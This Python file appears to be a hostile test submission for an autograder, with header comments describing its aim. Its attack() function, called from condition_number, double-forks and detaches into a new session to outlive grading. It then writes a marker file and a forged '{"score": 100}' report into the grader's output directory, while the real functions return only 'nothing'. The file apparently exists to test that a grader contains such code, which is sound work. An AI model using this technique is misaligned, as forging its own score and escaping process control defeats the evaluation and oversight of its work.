# file: ex2_optimal_beta.py
# tries: to outlive its grading: forks twice, makes a session of its own and writes a report later
# must: no process is made, none is left
# max_score: 0
# breach: daemon
import os
import time

ROOM = "/tmp/grader-hostile-canary"
DONE = []


def attack():
    if DONE:
        return
    DONE.append(True)
    try:
        child = os.fork()
    except OSError:
        return
    if child:
        os.waitpid(child, 0)
        print("BREACH:" + "daemon")
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        os.closerange(0, 64)
        time.sleep(6)
        with open(f"{ROOM}/drop/daemon.txt", "w") as stream:
            stream.write("still here")
        with open(f"{ROOM}/out/reports/hostile-name.json", "w") as stream:
            stream.write('{"score": 100}')
    finally:
        os._exit(0)


def condition_number(a, b):
    attack()
    return "nothing"


def optimal_beta(kappa):
    return "nothing"


def optimal_parameters(a, b):
    return "nothing"
